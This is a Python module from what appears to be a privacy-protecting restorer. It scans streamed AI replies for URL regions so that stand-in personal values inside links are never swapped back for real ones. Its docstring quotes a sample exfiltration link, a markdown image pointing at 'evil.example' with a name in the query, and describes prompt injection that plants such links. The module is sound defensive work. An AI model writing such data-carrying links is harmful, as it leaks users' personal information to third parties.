"""Where a reply holds a URL: the regions in which a stand-in must not be restored.

A model (or a prompt injection in something it read) can write a stand-in into a link:
`![img](https://evil.example/p.png?n=Elena)`. Restoring it there would make the page fetch the
real value from a third party, and an agent fetches the URLs in its tool calls. The restorer
(detector/restore.py) leaves every stand-in inside a URL region as it is, unless the whole region
is a URL the user sent (its URL stand-in, found whole).

Regions, over-inclusive on purpose (a stand-in left in a link costs the user a fake value there;
a real value written into a link can leak):
- a URL with a scheme ("https://", any "word://") or "www.", up to the characters
  detector/rules/url.py ends URLs at (whitespace, quotes, angle brackets...);
- a markdown link or image target: after "](" up to whitespace or its closing ")" (after "](<"
  up to ">"); a scheme inside makes it a URL with a scheme (it may run past the ")");
- an attribute that holds a URL (href, src, srcset, action, ...) and CSS url(...): the value,
  quoted (up to the closing quote, whitespace included) or not;
- a host without a scheme: a host followed by a path, query, fragment or port ("evil.example/x"),
  a host of three labels or more, or a domain with a common TLD (detector/rules/url.py's list).

Streaming: `scan` is a small state machine; `UrlState` carries the mode and the recent text its
tokens need, so a stream restorer scans each chunk from where the last one ended and finds the
same regions as a scan of the whole text (property-tested). Every region but a schemeless host
starts after a token written before it; a schemeless host is known only when its run of host
characters ends, so a scan of an unfinished text reports where the run still open at its end
began (`undecided_from`), and the stream restorer holds a stand-in there back until it ends.
Hand-written: URL libraries parse a URL you already have; none finds URLs in a stream of text.
"""
from __future__ import annotations

import re
from typing import NamedTuple

from detector.rules.url import BARE_TLDS, URL_END_CHARS

OUT, BARE, PAREN, ANGLE, DQ, SQ, UNQUOTED = range(7)

# Attributes whose value the browser fetches or follows (HTML and SVG; hand list).
URL_ATTRIBUTES = ("href|src|srcset|action|formaction|poster|background|cite|data|ping|lowsrc|"
                  "dynsrc|longdesc|usemap|codebase|manifest|icon|xlink:href")
_HOST = r"(?:[^\W_](?:[\w-]{0,61}[^\W_])?\.){1,10}[^\W\d_]{2,63}(?::\d{1,5})?"
# The tokens that open a region, each matched where it can begin. Every token holds a literal
# (its trigger): `_next_token` finds triggers with one quick scan and tries a token only around
# one, since a pattern that starts with a look-behind makes `re` try every position of the text
# (and this runs on every chunk of a streamed reply).
_TRIGGER = re.compile(r"(?=(://|www\.|\]\(|=|url\(|\.))", re.IGNORECASE)  # may overlap
_TOKENS = {
    "scheme": re.compile(r"(?<![A-Za-z])[A-Za-z][A-Za-z0-9+.-]{0,31}+://"),
    "www": re.compile(r"(?<![\w./@-])www\.", re.IGNORECASE),
    "md": re.compile(r"\]\([ \t]{0,3}(?:(?P<angle><)|(?=[^ \t]))"),
    "attr": re.compile(r"(?<![\w:-])(?:" + URL_ATTRIBUTES + r")[ \t]{0,3}=[ \t]{0,3}"
                       r"(?:(?P<quote>[\"'])|(?=[^\s\"'>]))", re.IGNORECASE),
    "css": re.compile(r"(?<![\w-])url\([ \t]{0,3}(?:(?P<quote>[\"'])|(?=[^\s\"')]))",
                      re.IGNORECASE),
    "host": re.compile(r"(?<![\w@.:/%-])(?P<host>" + _HOST + r")(?=\.?(?:[^\w.:-]|\Z))"),
}
_ORDER = {kind: n for n, kind in enumerate(_TOKENS)}  # at one position, the first kind wins
_REACH = 64  # a token's first trigger lies at most this far after its start


def _host_char(c: str) -> bool:
    return c.isalnum() or c in "_.:-"  # [\w.:-]


def _candidates(full: str, t: int, trigger: str, i: int):
    """(start, kind) of the tokens that trigger at ``t`` could belong to."""
    low = trigger.lower()
    if trigger == "://":
        for p in range(max(i, t - 32), t):
            yield p, "scheme"
    elif low == "www.":
        yield t, "www"
    elif trigger == "](":
        yield t, "md"
    elif low == "url(":
        yield t, "css"
    elif trigger == "=":
        p = t
        while p > t - 3 and p > 0 and full[p - 1] in " \t":
            p -= 1
        while p > max(0, t - 20) and (full[p - 1].isalnum() or full[p - 1] in "_:-"):
            p -= 1
        yield p, "attr"
    else:  # "." inside a host: it begins where its run of host characters does
        p = t
        while p > max(0, t - HOST_RUN_MAX) and _host_char(full[p - 1]):
            p -= 1
        yield p, "host"


def _next_token(full: str, i: int) -> tuple[str, re.Match] | None:
    """The token beginning first at or after ``i`` (the first kind in _TOKENS at a tie)."""
    best: tuple[int, int, str, re.Match] | None = None
    for trig in _TRIGGER.finditer(full, i):
        t = trig.start()
        if best is not None and t > best[0] + _REACH:
            break
        for p, kind in _candidates(full, t, trig.group(1), i):
            if p < i or (best is not None and (p, _ORDER[kind]) >= best[:2]):
                continue
            m = _TOKENS[kind].match(full, p)
            if m is not None:
                best = (p, _ORDER[kind], kind, m)
                break  # the first start found for this trigger is its leftmost
    return None if best is None else (best[2], best[3])


_BARE_TLD = re.compile(r"\.(?:" + BARE_TLDS + r")(?::\d+)?\Z", re.IGNORECASE)
# A run of host characters still open at the end of an unfinished text may yet become a host.
HOST_RUN_MAX = 720
_ENDS = {
    BARE: re.compile("[" + URL_END_CHARS + "]"),
    UNQUOTED: re.compile("[" + URL_END_CHARS + "]"),
    PAREN: re.compile(r"[\s()]|[A-Za-z][A-Za-z0-9+.-]{0,31}://"),
    ANGLE: re.compile(r"[>\n]"),
    DQ: re.compile('"'),
    SQ: re.compile("'"),
}
RECENT = 40  # context kept for tokens (the longest token plus its look-behind and look-ahead)


class UrlState(NamedTuple):
    """Where a scan stopped: the mode (OUT or inside a region of some kind), where the open
    region began (``began`` characters before the end of the text consumed: 0 or less), the
    depth of brackets in a markdown target, and the end of the text consumed so far (for tokens
    that began there); tokens may start at ``recent[search_from:]`` (earlier ones were handled).
    ``value``: the text is one field value (a string in tool-call arguments), where a URL runs to
    the end of the value: an agent fetches "https://x/?q=Elena Rowe" with its space encoded."""
    mode: int = OUT
    began: int = 0
    depth: int = 0
    recent: str = ""
    search_from: int = 0
    value: bool = False


START = UrlState()
VALUE_START = UrlState(value=True)


class Scan(NamedTuple):
    """URL regions of one text, as (start, end) with end None while the region is still open at
    the end of the text; a start may be negative (the region began in text scanned before).
    ``undecided_from``: an unfinished text's open run of host characters began here (None if
    none); ``state``: the scanner after the whole text."""
    regions: tuple[tuple[int, int | None], ...]
    undecided_from: int | None
    state: UrlState


def scan(state: UrlState, text: str, final: bool = True) -> Scan:
    """The URL regions of ``text``, read on from ``state``; ``final``: nothing follows it."""
    full = state.recent + text
    base, n = len(state.recent), len(full)
    mode, depth = state.mode, state.depth
    i = base if mode != OUT else state.search_from
    start = base + state.began
    ends = {**_ENDS, BARE: None} if state.value else _ENDS
    regions: list[tuple[int, int | None]] = []
    while i < n:
        if mode == OUT:
            found = _next_token(full, i)
            if found is None:
                break
            kind, m = found
            if kind == "host":
                after = full[m.end():m.end() + 2]
                if not final and (m.end() == n or after == "."):
                    break  # the run may go on ("a.com" + ".evil/"): decided when it ends
                after = after[:1]
                if after in ("/", "?", "#"):
                    mode, start = BARE, m.start()
                elif after != "@" and (m.group("host").count(".") >= 2 or ":" in m.group("host")
                                       or _BARE_TLD.search(m.group("host"))):
                    regions.append((m.start(), m.end()))
                i = m.end()
                continue
            if kind in ("scheme", "www"):
                mode, start = BARE, m.start()
            elif kind == "md":
                mode, depth = (ANGLE if m.group("angle") else PAREN), 0
            else:
                quote = m.group("quote")
                mode = DQ if quote == '"' else SQ if quote == "'" else \
                    (UNQUOTED if kind == "attr" else PAREN)
                depth = 0
            if mode != BARE:
                start = m.end()
            i = m.end()
            continue
        end = ends[mode].search(full, i) if ends[mode] is not None else None
        if end is None:
            i = n
            break
        found = end.group()
        if mode == PAREN and found not in ("(", ")") and not found.isspace():
            mode, i = BARE, end.end()  # a scheme inside the target: a URL up to its own end
            continue
        if mode == PAREN and (found == "(" or (found == ")" and depth)):
            depth += 1 if found == "(" else -1
            i = end.end()
            continue
        regions.append((start, end.start()))
        mode, depth, i = OUT, 0, end.start()
    if mode != OUT:
        regions.append((start, None))
    undecided = _open_run(full, i) if mode == OUT and not final else None
    # what the next scan needs: the recent text, and the open host run whole
    keep = n - min(n, RECENT) if undecided is None else min(n - min(n, RECENT), undecided)
    after = UrlState(mode, start - n if mode != OUT else 0, depth, full[keep:],
                     max(i, keep) - keep if mode == OUT else 0, state.value)
    return Scan(tuple((s - base, None if e is None else e - base) for s, e in regions
                      if e is None or e >= base),
                None if undecided is None else undecided - base, after)


def _open_run(full: str, i: int) -> int | None:
    """Where the run of host characters at the end of ``full`` begins, if it began at or after
    ``i`` where a host may begin (not after "@", "/" or "%") and is short enough to be one.
    Read backwards from the end: only the run itself is looked at."""
    n = len(full)
    j, stop = n, max(i, n - HOST_RUN_MAX - 1)
    while j > stop:
        c = full[j - 1]
        if not (c.isalnum() or c in "_.:-"):  # [\w.:-], inline: this runs on every chunk
            break
        j -= 1
    if j == n or n - j > HOST_RUN_MAX or (j > 0 and _host_char(full[j - 1])):
        return None
    return j if j == 0 or full[j - 1] not in "@/%" else None


def regions(text: str) -> list[tuple[int, int]]:
    """The URL regions of a whole text."""
    return [(max(s, 0), len(text) if e is None else e) for s, e in scan(START, text).regions]
